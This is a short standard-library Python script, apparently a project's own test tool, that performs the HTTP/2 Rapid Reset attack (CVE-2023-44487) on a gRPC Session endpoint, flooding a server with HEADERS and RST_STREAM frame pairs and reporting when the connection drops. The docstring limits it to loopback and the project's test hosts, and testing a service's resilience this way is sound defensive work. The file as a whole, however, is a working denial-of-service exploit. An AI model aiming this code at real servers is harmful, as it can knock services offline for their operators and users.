#!/usr/bin/env python3
"""Rapid-reset probe (CVE-2023-44487), standard library only: one HTTP/2
connection writing HEADERS (a crease.v1 Session call) + RST_STREAM pairs as
fast as it can, up to --pairs or --seconds. Prints how many pairs went out
before the peer closed the connection. For loopback and the project's own test
hosts only.

  rapid_reset_probe.py HOST:PORT [--pairs N] [--seconds S]
"""
import argparse
import socket
import struct
import time


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def headers_block():
    block = b""
    for name, value in [(":method", "POST"), (":scheme", "http"),
                        (":path", "/crease.v1.Crease/Session"),
                        (":authority", "localhost"),
                        ("content-type", "application/grpc"), ("te", "trailers")]:
        block += b"\x00" + bytes([len(name)]) + name.encode() + \
            bytes([len(value)]) + value.encode()
    return block


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("target")
    parser.add_argument("--pairs", type=int, default=40000)
    parser.add_argument("--seconds", type=float, default=10)
    args = parser.parse_args()
    host, port = args.target.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=5)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    block = headers_block()
    sent, stream = 0, 1
    end = time.monotonic() + args.seconds
    try:
        while sent < args.pairs and time.monotonic() < end:
            burst = b""
            for _ in range(100):
                burst += frame(1, 0x4, stream, block) + \
                    frame(3, 0, stream, b"\x00\x00\x00\x08")
                stream += 2
            sock.sendall(burst)
            sent += 100
    except OSError as error:
        print(f"connection closed by the peer after {sent} pairs ({error})")
        return
    print(f"{sent} pairs written")


if __name__ == "__main__":
    main()
